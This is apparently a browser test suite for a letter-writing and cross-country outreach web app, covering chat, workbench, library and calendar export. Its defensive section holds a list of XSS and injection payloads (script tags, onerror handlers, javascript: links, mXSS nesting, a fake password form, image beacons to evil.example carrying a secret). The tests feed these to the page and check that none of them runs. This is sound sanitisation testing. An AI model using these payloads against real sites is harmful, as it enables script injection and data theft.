"""The page in a real browser: what a visitor sees and does, and what no text can make it do."""

from __future__ import annotations

import os
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import icalendar
import pytest

from tests.adapters.model_server import FAULTS, ModelServer, in_pieces
from tests.conftest import LETTER, PREGUNTA, QUESTION, Server, chromium, serving

pytestmark = pytest.mark.browser

OPTIONS = [
    "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
    "--disable-component-update", "--disable-sync",
]  # fmt: skip
PATIENCE = 20_000
SEEN = "window.__pwn = 1"
EVIL = "https://evil.example"

PAYLOADS = [
    f"<script>{SEEN}</script>",
    f"<img src=x onerror='{SEEN}'>",
    f"<img src='{EVIL}/a.png?d=SECRET'>",
    f"![t]({EVIL}/b.png?d=SECRET)",
    f"![t](/gradio_api/file={EVIL}/c.png)",
    f"![t][r]\n\n[r]: {EVIL}/d.png",
    f"<svg onload='{SEEN}'><image href='{EVIL}/e.svg'/></svg>",
    f"<iframe src='{EVIL}/f' srcdoc='<script>parent.{SEEN}</script>'></iframe>",
    f"<video src='{EVIL}/g.mp4' autoplay></video><audio src='{EVIL}/g.mp3' autoplay></audio>",
    f"<form action='{EVIL}/h'><input name=password><button>Send</button></form>",
    f"<a href='javascript:{SEEN}'>here</a> [here](javascript:{SEEN.replace(' ', '')})",
    f"[log in again]({EVIL}/i) <{EVIL}/i> {EVIL}/i www.evil.example/i",
    f"<div style=\"background:url('{EVIL}/j.png')\">x</div><style>@import '{EVIL}/j.css';</style>",
    f"<link rel=stylesheet href='{EVIL}/k.css'><meta http-equiv=refresh content='0;url={EVIL}/k'><base href='{EVIL}/'>",
    f"<object data='{EVIL}/l'></object><embed src='{EVIL}/l'>",
    f"```\n</code></pre><img src='{EVIL}/m.png' onerror='{SEEN}'>\n```\n~~~~\n<script>{SEEN}</script>",
    f"$$\\href{{javascript:{SEEN}}}{{x}}$$ $\\includegraphics{{{EVIL}/n.png}}$",
    f"<details open ontoggle='{SEEN}'><summary>x</summary></details><body onload='{SEEN}'>",
    f"&lt;img src=x onerror={SEEN}&gt; &#60;script&#62;{SEEN}&#60;/script&#62;",
    f"<math><mtext><table><mglyph><style><img src=x onerror='{SEEN}'></style></mglyph></table></mtext></math>",
]
FOREIGN = "form, iframe, img, video, audio, object, embed, script, style, link, a[href^=http], a[href^=javascript]"
TEXTS = (
    "#conversation [role=log]",
    "#verdict",
    "#spans",
    "#advice-0",
    "#advice-1",
    "#reasons",
    "#differences",
    "#remarks",
    "#draft",
    "#facts",
)

TABS = ("chat", "workbench", "countries", "library", "about")
"""Of the page, in their order."""


@dataclass(slots=True)
class Visit:
    """A page with everything noted that it did on its own."""

    page: Any
    home: str
    foreign: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)
    moves: list[str] = field(default_factory=list)

    def say(self, text: str) -> str:
        """Send a message, wait for its answer to be whole and return it."""
        before = self.page.locator("#conversation .bot-row").count()
        self.page.fill("#message textarea", text)
        self.page.click("#send")
        self.page.wait_for_function(
            "n => document.querySelectorAll('#conversation .bot-row').length > n", arg=before, timeout=PATIENCE
        )
        return self.settled("#conversation .bot-row >> nth=-1")

    def settled(self, place: str) -> str:
        """Return the text at a place once it has not changed for a while."""
        last, same = "", 0
        for _ in range(200):
            now = self.page.locator(place).inner_text()
            same = same + 1 if now == last and now else 0
            if same >= 4:
                return now
            last = now
            self.page.wait_for_timeout(60)
        raise AssertionError(f"{place} never came to rest")

    def open(self, tab: str) -> None:
        self.page.get_by_role("tab").nth(TABS.index(tab)).click()

    def check(self) -> None:
        """Fail if the page ran, loaded, asked or went anywhere on behalf of a text."""
        assert self.page.evaluate("window.__pwn") is None
        assert self.foreign == []
        assert self.dialogs == []
        assert self.moves == [f"{self.home}/"]
        assert self.errors == []
        for place in TEXTS:
            found = self.page.locator(f"{place} :is({FOREIGN})")
            assert found.count() == 0, found.first.evaluate("e => e.outerHTML")


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    path = chromium()
    if path is None:
        if os.environ.get("CI"):
            pytest.fail("CI is set, and there is no chromium to test the page with")
        pytest.skip("no chromium here")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        opened = playwright.chromium.launch(executable_path=path, args=OPTIONS)
        yield opened
        opened.close()


@pytest.fixture(scope="module")
def model() -> Iterator[ModelServer]:
    with ModelServer() as running:
        yield running


@pytest.fixture(scope="module")
def modelled(home: Path, model: ModelServer) -> Iterator[Server]:
    """A server that writes with a model."""
    with serving(home, OPENAI_BASE_URL=model.url, OPENAI_API_KEY="sk-x", TERTULIA_MODEL="small") as running:
        yield running


def _visit(browser: Any, server: Server, locale: str) -> Iterator[Visit]:
    context = browser.new_context(locale=locale, viewport={"width": 1280, "height": 900})
    page = context.new_page()
    visit = Visit(page, server.url)
    local = (server.url, "data:", "blob:", "about:")
    page.on("request", lambda r: None if r.url.startswith(local) else visit.foreign.append(r.url))
    page.on("console", lambda m: visit.errors.append(m.text) if m.type == "error" else None)
    page.on("pageerror", lambda e: visit.errors.append(str(e)))
    page.on("dialog", lambda d: (visit.dialogs.append(d.message), d.dismiss()))
    page.on("framenavigated", lambda f: visit.moves.append(f.url))
    context.on("page", lambda p: visit.moves.append(p.url) if p != page else None)
    page.goto(f"{server.url}/")
    page.wait_for_selector("#message textarea", timeout=PATIENCE)
    page.wait_for_function("() => !!document.querySelector('#language input:checked')")
    page.wait_for_timeout(300)
    yield visit
    context.close()


@pytest.fixture
def spanish(browser: Any, server: Server) -> Iterator[Visit]:
    yield from _visit(browser, server, "es-ES")


@pytest.fixture
def english(browser: Any, server: Server) -> Iterator[Visit]:
    yield from _visit(browser, server, "en-GB")


@pytest.fixture
def with_model(browser: Any, modelled: Server) -> Iterator[Visit]:
    yield from _visit(browser, modelled, "en-GB")


# --- what a visitor does ----------------------------------------------------------------------------------------------


def test_the_page_speaks_the_browsers_language_and_changes_it_when_asked(spanish: Visit):
    page = spanish.page
    assert page.locator("#send").inner_text() == "Enviar"
    assert "borrador" in page.locator("#message textarea").get_attribute("placeholder")
    page.get_by_label("English").check()
    page.wait_for_function("() => document.querySelector('#send').innerText === 'Send'", timeout=PATIENCE)
    page.wait_for_function(
        "() => [...document.querySelectorAll('[role=tab]')].map(t => t.innerText).join() "
        " === 'Chat,Workbench,Countries,Library,About'",
        timeout=PATIENCE,
    )
    page.wait_for_selector("#privacy :text('Nothing you paste')", timeout=PATIENCE)
    page.get_by_label("Español").check()
    page.wait_for_function("() => document.querySelector('#send').innerText === 'Enviar'", timeout=PATIENCE)
    spanish.check()


def test_an_english_browser_finds_it_in_english(english: Visit):
    assert english.page.locator("#send").inner_text() == "Send"
    english.open("about")
    english.page.wait_for_selector(":text('never invents a fact')", state="visible", timeout=PATIENCE)
    english.check()


def test_a_question_is_answered_with_citations_and_read_from_its_beginning(spanish: Visit):
    answer = spanish.say(PREGUNTA)
    assert "[1]" in answer
    assert "Japón" in answer
    log = spanish.page.locator("#conversation [role=log]").bounding_box()
    said = spanish.page.locator("#conversation .user-row").last.bounding_box()
    assert abs(said["y"] - log["y"]) < 60
    spanish.check()


def test_the_numbers_of_an_answer_lead_to_the_passages_which_stay_folded_until_asked_for(spanish: Visit):
    answer = spanish.say(PREGUNTA)
    assert "shōkai" in answer
    fold = spanish.page.get_by_text("Los pasajes, enteros").last
    heading = "[1] Escribir a contactos en Japón: El primer contacto en Japón"
    passage = spanish.page.locator("strong", has_text=heading)
    assert passage.count() == 0 or not passage.last.is_visible()
    fold.click()
    passage.last.wait_for(state="visible")
    spanish.check()


def test_a_draft_is_critiqued_and_rewritten_and_made_shorter(spanish: Visit):
    first = spanish.say(LETTER)
    assert "de 100" in first
    assert "Una versión que podría enviar" in first
    block = spanish.page.locator("#conversation .bot-row").last.locator("pre code")
    assert "Estimada Dra. Pérez" in block.inner_text()
    assert "\\" not in block.inner_text()
    before = block.inner_text()
    spanish.say("más corto")
    block = spanish.page.locator("#conversation .bot-row").last.locator("pre code")
    assert "Estimada Dra. Pérez" in block.inner_text()
    assert len(block.inner_text()) < len(before)
    spanish.page.keyboard.press("Control+Home")
    spanish.check()
    assert "Alimentaria" not in spanish.page.evaluate("JSON.stringify(localStorage) + JSON.stringify(sessionStorage)")
    assert "Pérez" not in spanish.page.evaluate("JSON.stringify(localStorage) + JSON.stringify(sessionStorage)")


def test_enter_sends_and_an_example_asks(english: Visit):
    english.page.fill("#message textarea", "hello")
    english.page.press("#message textarea", "Enter")
    english.page.wait_for_selector("#conversation .bot-row", timeout=PATIENCE)
    assert "Paste" in english.settled("#conversation .bot-row >> nth=-1")
    assert english.page.locator("#message textarea").input_value() == ""
    english.page.click("#example-1")
    english.page.wait_for_function(
        "() => document.querySelectorAll('#conversation .bot-row').length == 2", timeout=PATIENCE
    )
    assert "[1]" in english.settled("#conversation .bot-row >> nth=-1")
    english.check()


def test_a_new_conversation_forgets_the_old_one(english: Visit):
    english.say("Dear Anna,\n\nI read your piece on tins. Which resin did you test?\n\nTom")
    english.page.click("#clear")
    english.page.wait_for_function(
        "() => document.querySelectorAll('#conversation .bot-row').length == 0", timeout=PATIENCE
    )
    assert "Paste the draft first" in english.say("shorter")
    english.check()


SALESY = (
    "Hello Ana,\n\nWe help companies boost sales by 40%. Your talk in Lyon on cork made me curious about the second"
    " harvest. Which glue held in the end, and would you use it again?\n\nPrior to the fair I read your paper.\n\nLuis"
)


def test_advice_is_taken_over_or_put_aside_with_one_click_and_stays_so(english: Visit):
    english.open("workbench")
    page = english.page
    page.fill("#draft textarea", SALESY)
    page.wait_for_selector("#accept-0", state="visible", timeout=PATIENCE)
    before = english.settled("#advice-0")
    assert "help companies" in before
    page.click("#accept-0")
    page.wait_for_function(
        "() => !document.querySelector('#draft textarea').value.includes('boost sales')", timeout=PATIENCE
    )
    assert page.locator("#draft textarea").input_value().startswith("Hello Ana,\n\nYour talk in Lyon")
    page.wait_for_function("t => document.querySelector('#advice-0').innerText !== t", arg=before, timeout=PATIENCE)
    advice = english.settled("#advice-0")
    page.click("#dismiss-0")
    page.wait_for_selector("#restore", state="visible", timeout=PATIENCE)
    first_words = advice[3:40]
    page.locator("#draft textarea").press("End")
    page.locator("#draft textarea").press_sequentially(" P.S. It rained.", delay=5)
    page.wait_for_timeout(800)
    assert first_words not in page.locator("#verdict").locator("xpath=..").inner_text()
    page.click("#restore")
    page.wait_for_selector("#restore", state="hidden", timeout=PATIENCE)
    page.wait_for_selector(f"#advice-0 :text({first_words!r})", timeout=PATIENCE)
    english.check()


def test_a_teams_own_article_is_added_answered_from_and_removed(english: Visit, tmp_path: Path):
    article = tmp_path / "zithers.md"
    article.write_text(
        "# Zithers for collectors\n\n## Whom to write to\n\n"
        "Zither collectors are written to by name through the guild in Innsbruck, never through a shop.\n"
    )
    page = english.page
    english.open("library")
    page.locator("#library-files input[type=file]").set_input_files(str(article))
    page.wait_for_selector("#library-list :text('Zithers for collectors')", timeout=PATIENCE)
    english.open("chat")
    assert "guild in Innsbruck" in english.say("How do I write to zither collectors?")
    english.open("library")
    page.locator("#library-list input[type=checkbox]").first.check()
    page.click("#library-remove")
    page.wait_for_selector("#library-list", state="hidden", timeout=PATIENCE)
    english.open("chat")
    assert "guild in Innsbruck" not in english.say("How do I write to zither collectors, then?")
    english.check()


def test_the_workbench_judges_while_one_types_and_rewrites_with_the_differences(spanish: Visit):
    spanish.open("workbench")
    page = spanish.page
    page.locator("#draft textarea").press_sequentially("Estimada Ana: somos líderes del sector. ", delay=5)
    page.wait_for_selector("#verdict :text('de 100')", timeout=PATIENCE)
    page.fill("#draft textarea", LETTER)
    page.wait_for_function(
        "() => document.querySelector('#spans') && document.querySelector('#spans').innerText.includes('Gómez')",
        timeout=PATIENCE,
    )
    assert page.locator("#spans .highlighted").count() > 2
    page.fill("#facts textarea", "dio una charla en Alimentaria sobre envases de aceite")
    page.click("#rewrite")
    page.wait_for_selector("#proposal textarea", timeout=PATIENCE)
    assert "Alimentaria" in page.locator("#proposal textarea").input_value()
    assert page.locator("#differences .highlighted").count() > 1
    assert "Antes:" in page.locator("#remarks").inner_text()
    proposal, button = page.locator("#proposal").bounding_box(), page.locator("#rewrite").bounding_box()
    assert 0 < proposal["y"] - button["y"] < 200, "the proposal stands under the button that asked for it"
    page.fill("#draft textarea", "")
    page.wait_for_selector("#verdict :text('aparecerá')", timeout=PATIENCE)
    assert "Gómez" not in page.evaluate("JSON.stringify(localStorage)")
    spanish.check()


def test_the_workbench_reads_a_draft_between_two_countries(spanish: Visit):
    spanish.open("workbench")
    page = spanish.page
    page.fill("#draft textarea", "Estimado señor Tanaka:\n\nLeí su artículo. ¿Podemos hablar el martes a las 17:00?")
    choose(spanish, "bench-country", "Japón")
    page.wait_for_selector("#reasons :text('Tokio')", timeout=PATIENCE)
    assert "en Madrid" not in page.locator("#reasons").inner_text()
    choose(spanish, "bench-home", "España")
    page.wait_for_selector("#reasons :text('en Madrid')", timeout=PATIENCE)
    page.get_by_label("English").check()
    page.wait_for_selector("#bench-home :text('Your country')", timeout=PATIENCE)
    spanish.check()


def test_stop_frees_the_page_while_a_model_is_slow(with_model: Visit, model: ModelServer):
    model.play("endless")
    page = with_model.page
    page.fill("#message textarea", QUESTION)
    page.click("#send")
    page.wait_for_selector("#conversation .bot-row :text('and and')", timeout=PATIENCE)
    page.fill("#message textarea", "what I write meanwhile")
    page.wait_for_timeout(600)
    assert page.locator("#message textarea").input_value() == "what I write meanwhile"
    page.click("#stop")
    stopped = with_model.settled("#conversation .bot-row >> nth=-1")
    page.wait_for_timeout(600)
    assert page.locator("#conversation .bot-row").last.inner_text() == stopped
    assert model.received[-1].closed_at is not None
    model.play("fine")
    assert "Paste" in with_model.say("hello")
    assert "localhost" in page.locator("#privacy").inner_text() or "127.0.0.1" in page.locator("#privacy").inner_text()
    with_model.check()


def test_the_page_fits_a_telephone(browser: Any, server: Server):
    context = browser.new_context(locale="es-ES", viewport={"width": 390, "height": 800})
    page = context.new_page()
    page.goto(server.url)
    page.wait_for_selector("#message textarea", timeout=PATIENCE)
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    assert page.locator("#head h1").bounding_box()["width"] > 100
    context.close()


# --- what no text can do ----------------------------------------------------------------------------------------------


def test_nothing_in_a_message_acts(english: Visit):
    for start in range(0, len(PAYLOADS), 4):
        english.say("Dear Anna,\n\n" + "\n\n".join(PAYLOADS[start : start + 4]) + "\n\nYours, Tom")
        english.check()
    english.say(PAYLOADS[0])
    english.say(PAYLOADS[3] + " " + PAYLOADS[11])
    assert "evil.example" in english.page.locator("#conversation").inner_text()
    english.check()


def test_nothing_in_a_draft_or_a_fact_acts(english: Visit):
    english.open("workbench")
    page = english.page
    for start in range(0, len(PAYLOADS), 5):
        text = "\n".join(PAYLOADS[start : start + 5])
        page.fill("#draft textarea", f"Dear Anna,\n\n{text}\n\nYours, Tom")
        page.fill("#facts textarea", "\n".join(payload.split("\n")[0][:400] for payload in PAYLOADS[start : start + 3]))
        page.wait_for_selector("#verdict :text('out of 100')", timeout=PATIENCE)
        page.click("#rewrite")
        page.wait_for_selector("#proposal textarea", timeout=PATIENCE)
        english.settled("#remarks")
        english.check()
    assert "evil" not in page.evaluate("JSON.stringify(localStorage)")


def test_nothing_in_a_models_answer_acts(with_model: Visit, model: ModelServer):
    for number in range(0, len(PAYLOADS), 4):
        text = "\n\n".join(PAYLOADS[number : number + 4])
        FAULTS["payload"] = in_pieces("Write briefly [1].\n\n", text[: len(text) // 2], text[len(text) // 2 :], " [1]")
        model.play("payload")
        answer = with_model.say(QUESTION)
        assert "Write briefly" in answer
        with_model.check()
    FAULTS["payload"] = in_pieces("Dear Anna,\n\n", PAYLOADS[3], PAYLOADS[0], "\n\nYours, Tom")
    with_model.say("Dear Anna,\n\nI read your piece on tins. Which resin did you test?\n\nYours, Tom")
    with_model.check()


# --- countries --------------------------------------------------------------------------------------------------------


def choose(visit: Visit, field: str, name: str) -> None:
    """Choose an entry of a drop-down list by its name, as a visitor types it."""
    box = visit.page.locator(f"#{field} input")
    box.click()
    box.fill(name)
    visit.page.get_by_role("option", name=name, exact=True).first.click()


def test_two_countries_are_compared_and_a_plan_is_taken_away_as_a_calendar_file(spanish: Visit, tmp_path: Path):
    spanish.open("countries")
    page = spanish.page
    choose(spanish, "countries-home", "España")
    choose(spanish, "countries-there", "Japón")
    page.wait_for_selector("#countries-differences table", timeout=PATIENCE)
    differences = spanish.settled("#countries-differences")
    assert "Japón" in differences
    assert "Presentación" in differences
    assert page.locator("#countries-picture img").bounding_box()["height"] > 100
    facts = spanish.settled("#countries-facts")
    assert "Mensajes comerciales no solicitados" in facts
    assert "no asesoramiento jurídico" in facts
    choose(spanish, "countries-purpose", "encontrar un distribuidor o un agente")
    page.click("#countries-plan")
    page.wait_for_selector("#countries-road h4", timeout=PATIENCE)
    road = spanish.settled("#countries-road")
    assert "[Name of your introducer]" in road
    page.wait_for_selector("#countries-file", state="visible", timeout=PATIENCE)
    with page.expect_download() as taken:
        page.click("#countries-file")
    taken.value.save_as(tmp_path / "plan.ics")
    events = icalendar.Calendar.from_ical((tmp_path / "plan.ics").read_bytes()).walk("VEVENT")
    assert len(events) == page.locator("#countries-road h4").count() - 1
    assert str(events[0]["SUMMARY"]) in road
    page.get_by_label("English").check()
    page.wait_for_selector("#countries-differences :text('Japan')", timeout=PATIENCE)
    spanish.check()


def test_what_the_chat_assumes_is_shown_and_corrected_in_fields_and_in_words(spanish: Visit):
    page = spanish.page
    field = "n => document.querySelector(`#assumed-${n[0]} input`).value === n[1]"
    spanish.say("voy a escribir a una directora de compras en Osaka, ¿qué cambio?")
    page.wait_for_function(field, arg=["country", "Japón"], timeout=PATIENCE)
    page.wait_for_function(field, arg=["purpose", "encontrar un cliente o importador"], timeout=PATIENCE)
    choose(spanish, "assumed-home", "España")
    page.wait_for_timeout(300)
    judged = spanish.say(LETTER)
    assert "Leído para Japón" in judged
    assert "Usted escribe desde España" in judged
    choose(spanish, "assumed-country", "Corea del Sur")
    page.wait_for_selector("#conversation :text('Leído para Corea del Sur')", timeout=PATIENCE)
    spanish.say("no, es un distribuidor")
    page.wait_for_function(field, arg=["purpose", "encontrar un distribuidor o un agente"], timeout=PATIENCE)
    page.click("#clear")
    page.wait_for_function(field, arg=["purpose", "—"], timeout=PATIENCE)
    page.wait_for_function(field, arg=["country", "—"], timeout=PATIENCE)
    spanish.check()
